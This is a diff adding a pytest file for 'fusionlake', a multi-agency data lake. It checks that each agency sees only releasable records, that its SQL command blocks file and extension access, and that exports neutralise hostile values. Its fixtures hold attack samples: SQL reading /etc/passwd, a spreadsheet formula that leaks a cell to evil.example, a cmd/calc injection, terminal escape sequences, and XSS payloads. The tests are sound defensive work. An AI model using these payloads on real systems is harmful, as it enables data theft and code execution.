@@ -1,0 +1,462 @@
+"""Sharing without leaks (issue 20): each audience's mart is the mart of a lake that only ever
+received the rows releasable to it, and ``fusionlake sql`` is a boundary.
+
+The rule, checked table by table: for every audience A, the mart published for A equals the
+all-agencies mart of a lake that received only A's rows (the staged rows A may see, the ledger
+entries of A's own deliveries and of the drops that gave A a row, the validation and quarantine
+of A's own drops). What must differ is normalised away: mart_info (who and when), the history's
+time stamps and the audit trail.
+"""
+
+from __future__ import annotations
+
+import json
+import random
+import shutil
+from datetime import date
+from pathlib import Path
+
+import duckdb
+import polars as pl
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from test_marts import _person, _rows, scenario
+
+from fusionlake.lake import audit, layout, schema, zones
+from fusionlake.lake.feeds import load_feeds
+from fusionlake.lake.ledger import Ledger
+from fusionlake.lake.settings import Settings
+from fusionlake.lake.store import LocalStore, open_store
+from fusionlake.pipeline import marts, publish, resolve
+from fusionlake.pipeline.land import deliver, discover, land
+from fusionlake.pipeline.run import run
+from fusionlake.synth import generate
+from transforms.names import sort_tokens
+from transforms.resolution.ids import derived_id
+
+AGENCIES = ["cn_mps", "mm_police", "th_imm"]
+
+
+# ---------------------------------------------------------------------------------------------
+# helpers: publish every audience, build the reference lake, compare marts
+
+
+def _publish_all(store, work: Path, names: list[str] | None = None) -> dict[str, str]:
+    """Resolve per visibility group and publish the marts of ``names`` (default: all)."""
+    ledger, feedset = Ledger(store), load_feeds()
+    with resolve.staged_scans(store, ledger, feedset) as (scans, _):
+        resolve.resolve_audiences(store, scans, "test", audiences=names)
+        if names is None:
+            return publish.publish_marts(store, ledger, feedset, 2, scans)
+        resolution = publish.audience_resolutions(store, names, work)
+        return marts.build_and_publish(store, scans, resolution,
+                                       publish.steward_tables(store, ledger), work,
+                                       audience_names=names)
+
+
+def _dump(path: Path) -> dict[str, list[tuple]]:
+    """Every table of a mart, rows sorted, with what must differ between lakes normalised."""
+    con = duckdb.connect(str(path), read_only=True)
+    try:
+        tables = [r[0] for r in con.execute(
+            "SELECT table_name FROM duckdb_tables() WHERE NOT temporary").fetchall()]
+        skip = {"mart_info", "audit_log", "entity_history"}
+        out = {t: con.execute(f'SELECT * FROM "{t}" ORDER BY ALL').fetchall()
+               for t in tables if t not in skip}
+        out["entity_history"] = con.execute(
+            "SELECT * EXCLUDE (changed_at) FROM entity_history ORDER BY ALL").fetchall()
+        out["mart_info.hub_min"] = con.execute("SELECT hub_min FROM mart_info").fetchall()
+        return out
+    finally:
+        con.close()
+
+
+def _mart_path(store: LocalStore, audience: str) -> Path:
+    return store.path(marts.latest(store, audience)["key"])
+
+
+def _reference_lake(full: LocalStore, audience: str, root: Path) -> LocalStore:
+    """A fresh lake holding only what ``audience`` may see of ``full`` (see the module doc)."""
+    ref = open_store(str(root))
+    visible = {t: f.collect() for t, f in marts.visible_rows(
+        {t: zones.scan(zones.local_files(full, zones.staged_keys(full, t), root), t)
+         for t in schema.TABLES}, audience).items()}
+    own = {e.drop_id for e in Ledger(full).entries() if e.agency == audience}
+    drops = own | set(visible["person_record"]["drop_id"].to_list())
+    for key in full.list(layout.LEDGER_DROPS):
+        if key.split("/")[2] in drops:
+            ref.put(key, full.get(key))
+    for key in full.list(layout.STAGED):
+        drop_id = layout.drop_id_of_staged(key)
+        if drop_id in drops:
+            table = key.split("/")[1]
+            zones.write_frame(ref, key, visible[table].filter(pl.col("drop_id") == drop_id))
+    for zone in (layout.VALIDATION, layout.QUARANTINE):
+        for key in full.list(zone):
+            if key.split("/")[3] in own:
+                ref.put(key, full.get(key))
+    return ref
+
+
+def _assert_rule(full: LocalStore, tmp: Path, audiences: list[str]) -> None:
+    for audience in audiences:
+        ref = _reference_lake(full, audience, tmp / f"ref_{audience}")
+        _publish_all(ref, tmp / f"work_{audience}", names=["all"])
+        got, want = _dump(_mart_path(full, audience)), _dump(_mart_path(ref, "all"))
+        assert got.keys() == want.keys()
+        for table in want:
+            assert got[table] == want[table], (audience, table)
+
+
+# ---------------------------------------------------------------------------------------------
+# the property: random releasability over generated drops
+
+
+@pytest.fixture(scope="module")
+def generated_lake(tmp_path_factory) -> Path:
+    """A lake that received the generator's drops and staged them (the pipeline's own run)."""
+    root = tmp_path_factory.mktemp("generated")
+    summary = generate(120, 7, root / "drops")
+    store = open_store(str(root / "lake"))
+    for path in summary["files"].values():
+        agency, feed = path.parent.parent.name, path.parent.name
+        deliver(store, agency, feed, [path])
+    run(Settings(lake=str(root / "lake"), drop_workers=0))
+    return root / "lake"
+
+
+def _with_releasability(lake: Path, out: Path, seed: int, share: float) -> LocalStore:
+    """A copy of the lake whose staged rows carry random releasability (and no resolution or
+    marts yet): each person row is released to its own agency and to each other agency with
+    probability ``share``; its detail rows carry the same list."""
+    shutil.copytree(lake, out)
+    for zone in (layout.RESOLUTION, layout.MARTS):
+        shutil.rmtree(out / zone, ignore_errors=True)
+    store = open_store(str(out))
+    rng = random.Random(seed)
+    chosen: dict[str, list[str]] = {}
+    for key in sorted(store.list(layout.staged_prefix("person_record"))):
+        frame = zones.read_frame(store, key)
+        for rid, agency in frame.select("record_id", "agency").iter_rows():
+            chosen[rid] = sorted({agency, *(a for a in AGENCIES if rng.random() < share)})
+    for key in store.list(layout.STAGED):
+        frame = zones.read_frame(store, key)
+        lists = [chosen.get(r, ["nobody"]) for r in frame["record_id"].to_list()]
+        zones.write_frame(store, key, frame.with_columns(
+            pl.Series("releasable_to", lists, dtype=pl.List(pl.String))))
+    return store
+
+
+@pytest.mark.slow
+@settings(max_examples=2, deadline=None, derandomize=True,
+          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@given(seed=st.integers(0, 2**16), share=st.sampled_from([0.2, 0.5, 0.8]))
+def test_every_audience_mart_equals_the_mart_of_its_rows_alone(generated_lake, tmp_path_factory,
+                                                                seed, share):
+    tmp = tmp_path_factory.mktemp("example")
+    full = _with_releasability(generated_lake, tmp / "lake", seed, share)
+    published = _publish_all(full, tmp / "work")
+    assert sorted(published) == ["all", *AGENCIES]
+    _assert_rule(full, tmp, AGENCIES)
+
+
+# ---------------------------------------------------------------------------------------------
+# named cases: a record only cn_mps may see links two records th_imm sees
+
+
+TH_ONLY = ["th_imm", "cn_mps"]
+RECORDS = {  # record_id -> (agency, feed, drop_id, source_row, releasable_to)
+    "d_th:1": ("th_imm", "detentions", "d_th", 1, TH_ONLY),
+    "d_th:2": ("th_imm", "detentions", "d_th", 2, TH_ONLY),
+    "d_cn:1": ("cn_mps", "suspects", "d_cn", 1, ["cn_mps"]),
+}
+
+
+def _transitive(with_hidden: bool) -> dict[str, pl.DataFrame]:
+    """d_th:1 and d_th:2 (th_imm may see them) have nothing in common; d_cn:1 (cn_mps only)
+    holds d_th:1's resident ID and d_th:2's passport."""
+    import test_marts
+
+    saved = test_marts.RECORDS
+    test_marts.RECORDS = RECORDS
+    try:
+        people = [
+            _person("d_th:1", "detainee", "ZHOU MING", "Latin", "ZHOU MING", "M",
+                    date(1991, 3, 4), "CN"),
+            _person("d_th:2", "detainee", "CHOW MIN", "Latin", "CHOW MIN", None, None, "CN"),
+        ]
+        ids = [{"record_id": "d_th:1", "kind": "cn_resident_id",
+                "value_normalised": "11010119910304001X", "issuing_country": "CN",
+                "check_valid": True},
+               {"record_id": "d_th:2", "kind": "passport", "value_normalised": "E99887766",
+                "issuing_country": "CN", "check_valid": True}]
+        if with_hidden:
+            people.append(_person("d_cn:1", "suspect", "周明", "Han", "ZHOU MING", "M",
+                                  date(1991, 3, 4), "CN"))
+            ids += [{**ids[0], "record_id": "d_cn:1"}, {**ids[1], "record_id": "d_cn:1"}]
+        person = _rows("person_record", people).with_columns(
+            sort_tokens(pl.col("name_latin").str.split(" ")).list.join(" ")
+            .alias("name_key_sorted"))
+        staged = {"person_record": person, "identifier": _rows("identifier", ids)}
+    finally:
+        test_marts.RECORDS = saved
+    return {t: staged.get(t, schema.empty(t)) for t in schema.TABLES}
+
+
+def _ledger(drops: list[str]) -> pl.DataFrame:
+    return pl.DataFrame([{"drop_id": d, "agency": "th_imm" if d == "d_th" else "cn_mps",
+                          "feed": "x", "file_name": f"{d}.csv", "state": "published"}
+                         for d in drops])
+
+
+def _publish_scenario(store, tmp: Path, staged: dict) -> dict[str, Path]:
+    names = ["all", "cn_mps", "th_imm"]
+    scans = {t: f.lazy() for t, f in staged.items()}
+    resolve.resolve_audiences(store, scans, "run", audiences=names)
+    resolution = publish.audience_resolutions(store, names, tmp)
+    steward = {"drop_ledger": _ledger(sorted(set(staged["person_record"]["drop_id"])))}
+    marts.build_and_publish(store, staged, resolution, steward, tmp, audience_names=names)
+    return {n: _mart_path(store, n) for n in names}
+
+
+def _q(path: Path, sql: str) -> list[tuple]:
+    con = duckdb.connect(str(path), read_only=True)
+    try:
+        return con.execute(sql).fetchall()
+    finally:
+        con.close()
+
+
+@pytest.fixture(scope="module")
+def transitive(tmp_path_factory):
+    """Two runs: first th_imm's two records, then cn_mps's record that links them."""
+    tmp = tmp_path_factory.mktemp("transitive")
+    store = open_store(str(tmp / "lake"))
+    _publish_scenario(store, tmp / "w1", _transitive(with_hidden=False))
+    return _publish_scenario(store, tmp / "w2", _transitive(with_hidden=True))
+
+
+def test_transitive_link_and_counts(transitive):
+    # the task force sees one person, th_imm two: the link is cn_mps's alone
+    assert _q(transitive["all"], "SELECT record_count FROM entity") == [(3,)]
+    assert _q(transitive["th_imm"], "SELECT record_count, agencies FROM entity ORDER BY 1") == [
+        (1, ["th_imm"]), (1, ["th_imm"])]
+    assert _q(transitive["th_imm"], "SELECT count(*) FROM record_link") == [(0,)]
+    assert _q(transitive["cn_mps"], "SELECT record_count FROM entity") == [(3,)]
+
+
+def test_history_shows_no_merge_made_from_hidden_rows(transitive):
+    assert _q(transitive["all"], "SELECT change, reason FROM entity_history "
+                                 "WHERE change = 'merge' LIMIT 1") == [
+        ("merge", "records of 2 previous entities now resolve together (via identifier link)")]
+    assert _q(transitive["th_imm"], "SELECT change FROM entity_history ORDER BY 1") == [
+        ("new",), ("new",)]
+
+
+def test_ids_are_derived_from_visible_records_only(transitive):
+    # each th_imm entity's id is its own record's, stable from the first run
+    assert _q(transitive["th_imm"], "SELECT entity_id, record_id FROM entity_record "
+                                    "ORDER BY 2") == [
+        (derived_id("d_th:1"), "d_th:1"), (derived_id("d_th:2"), "d_th:2")]
+    # the md5 re-pairing of issue 20 finds nothing: no split part carries a derived id
+    assert _q(transitive["th_imm"], """
+        SELECT a.entity_id, b.entity_id FROM entity a JOIN entity_record b
+          ON b.entity_id = 'E' || substr(md5(a.entity_id || '|' || b.record_id), 1, 16)""") == []
+
+
+def test_review_queue_and_ledger_hold_only_visible_rows(transitive):
+    assert _q(transitive["th_imm"], "SELECT count(*) FROM review_queue "
+                                    "WHERE record_id_l = 'd_cn:1' OR record_id_r = 'd_cn:1'") == [
+        (0,)]
+    assert _q(transitive["th_imm"], "SELECT drop_id, file_name FROM drop_ledger") == [
+        ("d_th", "d_th.csv")]
+
+
+def test_a_mart_from_a_resolution_holding_hidden_records_is_refused(tmp_path):
+    staged, resolution, steward = scenario()
+    with pytest.raises(marts.MartCheckError, match="resolution holds no record hidden"):
+        marts.build_mart(tmp_path / "m.duckdb", staged, resolution, steward, "cn_mps")
+
+
+def test_transitive_marts_follow_the_rule(tmp_path):
+    """The named case through the same check as the property."""
+    staged = _transitive(with_hidden=True)
+    full = open_store(str(tmp_path / "lake"))
+    names = ["all", "cn_mps", "th_imm"]
+    scans = {t: f.lazy() for t, f in staged.items()}
+    resolve.resolve_audiences(full, scans, "run", audiences=names)
+    for audience in ("th_imm", "cn_mps"):
+        vis = {t: f.collect() for t, f in marts.visible_rows(scans, audience).items()}
+        ref = open_store(str(tmp_path / f"ref_{audience}"))
+        resolve.resolve_audiences(ref, {t: f.lazy() for t, f in vis.items()}, "run",
+                                  audiences=["all"])
+        own = zones.read_resolution(full, audience)["entity_record"].sort("record_id")
+        alone = zones.read_resolution(ref, "all")["entity_record"].sort("record_id")
+        assert own.equals(alone), audience
+
+
+# ---------------------------------------------------------------------------------------------
+# the ledger: the same bytes from another agency
+
+
+def test_a_duplicate_is_its_senders_delivery(tmp_path):
+    store = open_store(str(tmp_path / "lake"))
+    ledger = Ledger(store)
+    data = tmp_path / "list.csv"
+    data.write_text("id,name\n1,x\n")
+    deliver(store, "cn_mps", "suspects", [data])
+    (tmp_path / "th").mkdir()
+    shutil.copy(data, tmp_path / "th" / "detained.csv")
+    deliver(store, "th_imm", "detentions", [tmp_path / "th" / "detained.csv"])
+    for info in discover(store, ledger):
+        land(store, ledger, info, "run")
+    entries = {(e.agency, e.feed, e.file_name, e.state, e.reason) for e in ledger.entries()}
+    drop_id = ledger.entries()[0].drop_id
+    assert ("th_imm", "detentions", "detained.csv", "duplicate",
+            f"same bytes as an earlier drop (drop {drop_id}); not ingested again") in entries
+    empty = {t: schema.empty(t) for t in schema.TABLES}
+    steward = {"drop_ledger": ledger.frame()}
+    got = {}
+    for audience in ("cn_mps", "th_imm"):
+        path = marts.build_mart(tmp_path / f"{audience}.duckdb", empty, {}, steward,
+                                audience).path
+        got[audience] = _q(path, "SELECT agency, file_name, state FROM drop_ledger")
+    assert got == {"cn_mps": [("cn_mps", "list.csv", "received")],
+                   "th_imm": [("th_imm", "detained.csv", "duplicate")]}
+
+
+# ---------------------------------------------------------------------------------------------
+# fusionlake sql is a boundary
+
+
+@pytest.fixture
+def published(tmp_path):
+    from test_marts import build
+
+    store = open_store(str(tmp_path / "lake"))
+    zones.write_frame(store, layout.staged_key("person_record", "cn_mps", "s", "d1"),
+                      schema.empty("person_record"))
+    marts.publish(store, "th_imm", build(tmp_path, "th_imm").path)
+    (tmp_path / "secret.txt").write_text("secret")
+    return store, tmp_path
+
+
+@pytest.mark.parametrize(("sql", "why"), [
+    ("ATTACH '{lake}/marts/all/x/fusion.duckdb' AS other", "reads or writes a file"),
+    ("COPY (SELECT * FROM entity) TO '{tmp}/out.csv'", "reads or writes a file"),
+    ("SELECT * FROM read_text('/etc/passwd')", "reads or writes a file"),
+    ("SELECT * FROM read_text('{tmp}/secret.txt')", "reads or writes a file"),
+    ("SELECT * FROM read_parquet('{lake}/staged/person_record/cn_mps/s/d1.parquet')",
+     "reads or writes a file"),
+    ("SET threads = 1", "settings cannot be changed"),
+    ("SET enable_external_access = true", "settings cannot be changed"),
+    ("INSTALL httpfs", "reads or writes a file"),
+    ("LOAD httpfs", "extensions cannot be installed or loaded"),
+    ("DELETE FROM entity", "the mart is read-only"),
+])
+def test_sql_refuses_what_leaves_the_mart(published, sql, why):
+    store, tmp = published
+    text = sql.format(lake=store.root, tmp=tmp)
+    with pytest.raises(marts.MartError) as err:
+        marts.run_query(store, text, "th_imm", who="analyst")
+    message = str(err.value)
+    assert message.startswith("statement refused: ") and why in message
+    assert "\n" not in message
+    assert not (tmp / "out.csv").exists()
+    entry = audit.entries(store, "sql")[-1]
+    assert (entry["who"], entry["audience"], entry["query"], entry["rows"], entry["outcome"]) == (
+        "analyst", "th_imm", text, None, message)
+
+
+def test_every_query_is_in_the_audit_trail(published):
+    store, _ = published
+    marts.run_query(store, "SELECT entity_id FROM entity", "th_imm", fmt="csv", who="somchai")
+    marts.run_query(store, "SELECT 1", "th_imm")  # no one named: not audited (library use)
+    [entry] = audit.entries(store, "sql")
+    assert {k: entry[k] for k in ("kind", "who", "audience", "query", "rows", "outcome")} == {
+        "kind": "sql", "who": "somchai", "audience": "th_imm",
+        "query": "SELECT entity_id FROM entity", "rows": 4, "outcome": "ok"}
+    frame = audit.frame(store)
+    assert frame.select("kind", "who", "audience", "rows", "summary").rows() == [
+        ("sql", "somchai", "th_imm", 4, "SELECT entity_id FROM entity")]
+
+
+def test_cli_sql_decide_and_audit(published, capsys, monkeypatch):
+    from fusionlake.cli import main
+
+    store, _ = published
+    monkeypatch.setenv("USER", "nok")
+    lake = ["--lake", str(store.root)]
+    assert main(["sql", *lake, "--audience", "th_imm", "SELECT count(*) AS n FROM entity"]) == 0
+    assert main(["sql", *lake, "--audience", "th_imm", "--as", "lek", "ATTACH 'x' AS y"]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("fusionlake sql: statement refused: it reads or writes a file")
+    assert main(["decide", *lake, "d_th_d:1", "d_th_d:2", "--different", "--by", "ploy",
+                 "--why", "different mothers"]) == 0
+    capsys.readouterr()
+    assert main(["audit", *lake, "--format", "json"]) == 0
+    got = [(e["kind"], e["who"], e.get("rows")) for e in json.loads(capsys.readouterr().out)]
+    assert got == [("sql", "nok", 1), ("sql", "lek", None), ("decision", "ploy", None)]
+
+
+def test_audit_entries_are_never_overwritten(tmp_path):
+    store = open_store(str(tmp_path / "lake"))
+    first = audit.record(store, "acceptance", who="ploy", drop_id="d1", accepted=True)
+    second = audit.record(store, "acceptance", who="ploy", drop_id="d1", accepted=False)
+    assert [e["accepted"] for e in audit.entries(store, "acceptance")] == [True, False]
+    assert first["writer"] != second["writer"]
+    with pytest.raises(audit.AuditError, match="lower-case identifier"):
+        audit.record(store, "../x")
+
+
+# ---------------------------------------------------------------------------------------------
+# exports: formulas and terminal escapes
+
+
+NASTY = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd", "@SUM(1+1)",
+         "-2+3+cmd|' /C calc'!A0", "\tx", "\rx", "<script>alert(1)</script>",
+         "red\x1b[31m alert\x1b]8;;http://evil/\x07"]
+
+
+def test_csv_neutralises_formulas_and_table_strips_control_characters(tmp_path):
+    from test_marts import build
+
+    names = pl.Series(NASTY)
+    staged, _, _ = scenario()
+    person = staged["person_record"].head(len(NASTY)).with_columns(
+        names.alias("name_original"))
+    con = duckdb.connect()
+    con.register("p", person.select("name_original", pl.lit(-2).alias("n")).to_arrow())
+    out = marts.format_result(con, "SELECT name_original, n FROM p", "csv")
+    lines = out.splitlines()
+    assert lines[1:4] == ["\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",-2",
+                          "'+cmd,-2", "'@SUM(1+1),-2"]
+    assert lines[4] == "'-2+3+cmd|' /C calc'!A0,-2"  # a negative number stays a number
+    assert "'\tx" in out and "'\rx" in out
+    table = marts.format_result(con, "SELECT name_original FROM p", "table")
+    assert "\x1b" not in table and "\x07" not in table and "\\x1b[31m" in table
+    assert build(tmp_path).path.exists()  # the planted scenario still builds
+
+
+def test_data_docs_escape_every_value_of_a_drop(tmp_path):
+    from expectations.docs import build_data_docs
+    from expectations.runner import validate_drop
+
+    feed = load_feeds().feeds["cn_mps/suspects"]
+    bad = ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>",
+           "<svg onload=alert(3)>", "=HYPERLINK(\"x\")", "ok", "ok2"]
+    frame = pl.DataFrame({c: [None] * len(bad) for c in feed.columns},
+                         schema={c: pl.String for c in feed.columns}).with_columns(
+        pl.format("XS{}", pl.int_range(len(bad))).alias("编号"), pl.Series("姓名", bad),
+        pl.Series("公民身份号码", bad),
+        pl.int_range(1, len(bad) + 1, dtype=pl.Int64).alias("source_row"))
+    outcome = validate_drop(frame, feed, "d1")
+    build_data_docs([("d1", outcome.gx_result_json)], tmp_path)
+    page = (tmp_path / "validations/cn_mps.suspects/d1.html").read_text(encoding="utf-8")
+    for raw in ("<script>alert", "<img src=x", "<svg onload"):
+        assert raw not in page
+    for escaped in ("&lt;script&gt;alert(1)", "&lt;img src=x onerror=alert(2)&gt;",
+                    "&lt;svg onload=alert(3)&gt;"):
+        assert escaped in page
+    assert "&amp;lt;" not in page  # escaped once, not twice
